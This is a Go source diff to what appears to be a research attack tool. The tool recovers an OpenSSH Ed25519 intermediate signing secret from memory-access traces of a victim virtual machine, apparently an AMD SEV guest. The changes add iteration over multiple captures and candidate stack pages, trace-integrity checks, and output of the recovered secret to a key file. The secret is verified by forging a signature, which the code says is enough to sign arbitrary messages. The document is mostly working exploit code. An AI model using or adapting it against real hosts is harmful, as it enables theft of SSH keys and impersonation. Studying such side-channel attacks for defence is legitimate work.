@@ -10,8 +10,12 @@ import (
 	"io/ioutil"
 	"log"
 	"os"
+	"path/filepath"
 	"pfFingerprint"
 	"pfFingerprint/cmd/pfOSSHRecoverEdDSAKey/osshEDDSA"
+	"pfFingerprint/eddsaSigner"
+	"pfFingerprint/integrity"
+	"pfFingerprint/snapshot"
 	"sort"
 
 	"golang.org/x/crypto/ed25519"
@@ -29,33 +33,113 @@ func main() {
 	configIn := flag.String("configIn", "attack-config.json", "Path to config file")
 	in := flag.String("in", "attack-trace.txt", "Path to trace file")
 	specificOffset := flag.Uint("specificOffset", 0, "If set, only that offset is considered for key recovery")
+	regionGPA := flag.Uint64("regionGPA", 0, "If set, only the snapshots of this page are considered. Otherwise the stack buffer page from the config is tried first, followed by all other snapshotted pages")
 	debugLog := flag.Bool("debugLog", false, "Enable additional prints for debugging")
 	debugCheckMemValues := flag.Bool("debugCheckMemValues", false, "Checks if the captured memory pages fulfill some marker value pattern. Requires plaintext memory snapshots")
 	debugPrivateKeyPath := flag.String("debugPrivateKeyPath", "", "Loads private key to calculate correct swap sequence")
+	requireIntegrity := flag.Bool("integrity", false, "Refuse traces without a passing report of checkTrace next to them")
+	captures := flag.String("captures", "", "Path to the capture list of pfOSSHAttackEdDSA. If set, \"-configIn\" and \"-in\" are ignored and the captures are tried in order until a key is verified")
+	keyOut := flag.String("keyOut", "", "If set, the hex encoded intermediate secret is written to this file. The file only exists if the secret has been verified with a forged signature")
 	flag.Parse()
 
-	//
-	//handles flags
-	//
+	//a secret of an earlier run must not pass as the result of this one
+	if *keyOut != "" {
+		if err := os.Remove(*keyOut); err != nil && !os.IsNotExist(err) {
+			log.Printf("Failed to remove old key file : %v", err)
+			return
+		}
+	}
+
+	opts := &recoveryOptions{
+		specificOffset:      *specificOffset,
+		regionGPA:           *regionGPA,
+		debugLog:            *debugLog,
+		debugCheckMemValues: *debugCheckMemValues,
+		debugPrivateKeyPath: *debugPrivateKeyPath,
+		requireIntegrity:    *requireIntegrity,
+	}
+
+	if *captures == "" {
+		secret, err := recoverCapture(*configIn, *in, opts)
+		if err != nil {
+			log.Printf("%v", err)
+			return
+		}
+		if secret == nil {
+			log.Printf("Did not recover the secret from any snapshotted page")
+			return
+		}
+		writeKey(*keyOut, secret)
+		return
+	}
 
-	rawConfig, err := ioutil.ReadFile(*configIn)
+	rawList, err := ioutil.ReadFile(*captures)
 	if err != nil {
-		log.Printf("failed to read config file : %v", err)
+		log.Printf("failed to read capture list : %v", err)
 		return
 	}
+	list := &pfFingerprint.OSSHCapturesEdDSA{}
+	if err := json.Unmarshal(rawList, list); err != nil {
+		log.Printf("failed to parse capture list : %v", err)
+		return
+	}
+	//paths in the list are relative to its directory
+	resolve := func(path string) string {
+		if filepath.IsAbs(path) {
+			return path
+		}
+		return filepath.Join(filepath.Dir(*captures), path)
+	}
+	for i, v := range list.Captures {
+		log.Printf("Trying capture %v of %v : %v\n", i+1, len(list.Captures), v.Trace)
+		secret, err := recoverCapture(resolve(v.Config), resolve(v.Trace), opts)
+		if err != nil {
+			log.Printf("Capture %v failed : %v", i, err)
+			continue
+		}
+		if secret != nil {
+			log.Printf("Recovered the secret from capture %v\n", i)
+			writeKey(*keyOut, secret)
+			return
+		}
+	}
+	log.Printf("Did not recover the secret from any of the %v captures", len(list.Captures))
+}
+
+//writeKey writes the hex encoded secret to path, if path is set
+func writeKey(path string, secret []byte) {
+	if path == "" {
+		return
+	}
+	if err := ioutil.WriteFile(path, []byte(fmt.Sprintf("%x\n", secret)), 0600); err != nil {
+		log.Printf("Failed to write key file : %v", err)
+	}
+}
+
+//recoverCapture tries to recover the key from the attack trace at tracePath with the config at configPath. Returns
+//the intermediate secret once a forged signature with it is valid, nil otherwise
+func recoverCapture(configPath, tracePath string, opts *recoveryOptions) ([]byte, error) {
+	rawConfig, err := ioutil.ReadFile(configPath)
+	if err != nil {
+		return nil, fmt.Errorf("failed to read config file : %v", err)
+	}
 	attackConfig := &pfFingerprint.OSSHAttackConfigEdDSA{}
 	if err := json.Unmarshal(rawConfig, attackConfig); err != nil {
-		log.Printf("failed to parse config file : %v", err)
-		return
+		return nil, fmt.Errorf("failed to parse config file : %v", err)
 	}
 
 	log.Printf("Signature Type : %v\n", attackConfig.SigMsg.SignatureType)
 	log.Printf("Attack Config: ChooseT %x, Fe64GPA %x, StackGPA %x\n", attackConfig.ChooseTGPA, attackConfig.Fe64GPA, attackConfig.StackBufGPA)
 
-	inFile, err := os.Open(*in)
+	if opts.requireIntegrity {
+		if err := integrity.TrustTrace(tracePath); err != nil {
+			return nil, fmt.Errorf("untrusted trace : %v", err)
+		}
+	}
+
+	inFile, err := os.Open(tracePath)
 	if err != nil {
-		log.Printf("failed to open input file :%v\n", err)
-		return
+		return nil, fmt.Errorf("failed to open input file :%v", err)
 	}
 	defer func() {
 		if err := inFile.Close(); err != nil {
@@ -64,17 +148,79 @@ func main() {
 	}()
 	inReader := bufio.NewReader(inFile)
 
-	events, err := sevStep.ParseInputFile(inReader)
+	snapshots, err := snapshot.ParseEvents(inReader)
 	if err != nil {
-		log.Printf("failed to parse input file %v", err)
-		return
+		return nil, fmt.Errorf("failed to parse input file %v", err)
+	}
+
+	//debug scenario: use secret key to recompute correct b value
+	opts.privKeyDbgData = nil
+	if opts.debugPrivateKeyPath != "" {
+		privKeyFile, err := os.Open(opts.debugPrivateKeyPath)
+		if err != nil {
+			return nil, fmt.Errorf("failed to open priv key file : %v", err)
+		}
+		defer privKeyFile.Close()
+		opts.privKeyDbgData, err = calcPrivKeyDbgData(privKeyFile, attackConfig.SigMsg.Message)
+		if err != nil {
+			return nil, fmt.Errorf("calcPrivKeyDbgData failed : %v", err)
+		}
 	}
 
 	//
 	// main logic
 	//
 
-	fmt.Printf("Got %v events\n", len(events))
+	fmt.Printf("Got %v events\n", len(snapshots))
+
+	//each snapshotted page is a candidate for the stack buffer
+	regionGPAs := make([]uint64, 0)
+	if attackConfig.StackBufGPA != 0 {
+		regionGPAs = append(regionGPAs, attackConfig.StackBufGPA)
+	}
+	for _, v := range snapshot.RegionGPAs(snapshots) {
+		if v != attackConfig.StackBufGPA {
+			regionGPAs = append(regionGPAs, v)
+		}
+	}
+	if opts.regionGPA != 0 {
+		regionGPAs = []uint64{opts.regionGPA}
+	}
+	log.Printf("Stack buffer page candidates : %x\n", regionGPAs)
+
+	for _, gpa := range regionGPAs {
+		log.Printf("Trying snapshots of page %x\n", gpa)
+		secret, err := recoverKey(snapshot.Project(snapshots, gpa), attackConfig, opts)
+		if err != nil {
+			log.Printf("Key recovery with page %x failed : %v", gpa, err)
+			continue
+		}
+		if secret != nil {
+			log.Printf("Stack buffer was on page %x\n", gpa)
+			return secret, nil
+		}
+	}
+	return nil, nil
+}
+
+//recoveryOptions are the flags of the key recovery
+type recoveryOptions struct {
+	specificOffset      uint
+	regionGPA           uint64
+	debugLog            bool
+	debugCheckMemValues bool
+	debugPrivateKeyPath string
+	//privKeyDbgData is only available if "-debugPrivateKeyPath" is set. Computed for each capture
+	privKeyDbgData *PrivKeyDbgData
+	//requireIntegrity rejects traces that checkTrace did not vouch for
+	requireIntegrity bool
+}
+
+//recoverKey searches the stack buffer in the memory snapshots of events and recovers the secret from it.
+//Returns the intermediate secret if a forged signature with it is valid, nil otherwise
+func recoverKey(events []*sevStep.Event, attackConfig *pfFingerprint.OSSHAttackConfigEdDSA, opts *recoveryOptions) ([]byte, error) {
+	privKeyDbgData := opts.privKeyDbgData
+	havePrivKeyDbgData := privKeyDbgData != nil
 
 	//discard events without memory read
 	newLen := 0
@@ -87,6 +233,9 @@ func main() {
 	events = events[:newLen]
 
 	fmt.Printf("Events with mem acceses: %v\n", len(events))
+	if got, want := len(events), attackConfig.MainLoopCycles*attackConfig.MemAccessesPerCycle; got < want {
+		return nil, fmt.Errorf("got %v events with mem accesses, want at least %v", got, want)
+	}
 
 	//
 	//determine 16 aligned memory blocks in monitored page that change
@@ -94,12 +243,12 @@ func main() {
 	//
 	offsetsWithChange := getStackBufCandidates(attackConfig, events)
 
-	if *specificOffset != 0 {
-		log.Printf("Restricting search to offset %03x\n", *specificOffset)
-		offsetsWithChange = map[int]bool{int(*specificOffset): true}
+	if opts.specificOffset != 0 {
+		log.Printf("Restricting search to offset %03x\n", opts.specificOffset)
+		offsetsWithChange = map[int]bool{int(opts.specificOffset): true}
 	}
 
-	if *debugLog {
+	if opts.debugLog {
 		tmp := make([]int, 0, len(offsetsWithChange))
 		for k, ok := range offsetsWithChange {
 			if ok {
@@ -112,7 +261,7 @@ func main() {
 		log.Printf("Offsets with change: %03x\n", tmp)
 	}
 
-	if *specificOffset != 0 {
+	if opts.specificOffset != 0 {
 		var beforeSwap []byte
 		var eventOffset int
 		log.Printf("Printing values for offset")
@@ -120,7 +269,7 @@ func main() {
 			eventOffset = cycleIDX * attackConfig.MemAccessesPerCycle
 			for cycleRelEventIDX := 0; cycleRelEventIDX < attackConfig.MemAccessesPerCycle-1; cycleRelEventIDX++ {
 				beforeSwap = events[eventOffset+cycleRelEventIDX].Content
-				log.Printf("cycle %02v %x\n", cycleIDX, beforeSwap[*specificOffset:*specificOffset+uint(attackConfig.StackBufBytes)])
+				log.Printf("cycle %02v %x\n", cycleIDX, beforeSwap[opts.specificOffset:opts.specificOffset+uint(attackConfig.StackBufBytes)])
 
 			}
 		}
@@ -130,16 +279,15 @@ func main() {
 	//compare with known marker values to refine search for correct offset
 	//only works in a debug scenario where the memory values are not encrypted
 	//removes values from offsetsWithChange that do not match the marker values
-	if *debugCheckMemValues {
+	if opts.debugCheckMemValues {
 		log.Printf("applying offset filter due to \"-debugCheckMemValues\" flag")
 		matches, err := filterOffsetsViaPlaintext(attackConfig, &offsetsWithChange, events)
 		if err != nil {
-			log.Printf("filtering failed : %v", err)
-			return
+			return nil, fmt.Errorf("filtering failed : %v", err)
 		}
 		if matches == 0 {
 			log.Printf("Did not find offsets matching the marker values\n")
-			return
+			return nil, nil
 		}
 		for offset, ok := range offsetsWithChange {
 			if ok {
@@ -149,25 +297,6 @@ func main() {
 
 	}
 
-	//only available if *debugPrivateKeyPath  is set
-	var privKeyDbgData *PrivKeyDbgData
-	havePrivKeyDbgData := false
-	//debug scenario: use secret key to recompute correct b value
-	if *debugPrivateKeyPath != "" {
-		privKeyFile, err := os.Open(*debugPrivateKeyPath)
-		if err != nil {
-			log.Printf("Failed to open priv key file : %v", err)
-			return
-		}
-		defer privKeyFile.Close()
-		privKeyDbgData, err = calcPrivKeyDbgData(privKeyFile, attackConfig.SigMsg.Message)
-		if err != nil {
-			log.Printf("calcPrivKeyDbgData failed : %v", err)
-			return
-		}
-		havePrivKeyDbgData = true
-	}
-
 	//recover signed b from key candidates
 	offsetToRecoveredB := make(map[int][]int8)
 	discardedOffsets := make([]int, 0)
@@ -200,8 +329,7 @@ func main() {
 
 		sigR, _, err := parseSignature(attackConfig.SigMsg.Signature)
 		if err != nil {
-			log.Printf("failed to parse signature : %v", err)
-			return
+			return nil, fmt.Errorf("failed to parse signature : %v", err)
 		}
 		//we have no info for first cycle. bruteforce all possibilities
 		//Compare candidate with big R from signature to check if guess was correct
@@ -234,8 +362,7 @@ func main() {
 	for offset, signedB := range offsetToRecoveredB {
 		_, sigS, err := parseSignature(attackConfig.SigMsg.Signature)
 		if err != nil {
-			log.Printf("failed to parse signature : %v", err)
-			return
+			return nil, fmt.Errorf("failed to parse signature : %v", err)
 		}
 		unsignedB := signedBToUnsigned(signedB)
 		messageDigestReduced := unsignedBToMessageDigestReduced(unsignedB)
@@ -247,7 +374,7 @@ func main() {
 		}
 		intermediateSecret := recoverSecretFromSig(attackConfig.SigMsg.Message, messageDigestReduced[:], sigS, attackConfig.SigMsg.PublicKeySSH)
 		msgForgedSig := []byte("test message")
-		forgedSig, err := signWithIntermediateSecret(msgForgedSig, intermediateSecret, attackConfig.SigMsg.PublicKeySSH)
+		forgedSig, err := eddsaSigner.SignWithExpandedSecret(msgForgedSig, intermediateSecret, attackConfig.SigMsg.PublicKeySSH)
 		if err != nil {
 			log.Printf("Failed to create forged signature with data from offset %03x: %v", offset, err)
 		}
@@ -258,12 +385,13 @@ func main() {
 			log.Printf("Intermediate secret is %x\n", intermediateSecret)
 			log.Printf("(note that this is not the private key, but sufficient to sign arbitrary messages)\n")
 			log.Printf("Omitting other entries as we have found the secret")
-			break
+			return intermediateSecret, nil
 		} else {
 			log.Printf("B was valid but signature not, this shoudl not happen")
 		}
 	}
 
+	return nil, nil
 }
 
 func debugCheckBeforeValue(cycleIDX, offset int, pageContent []byte) (bool, error) {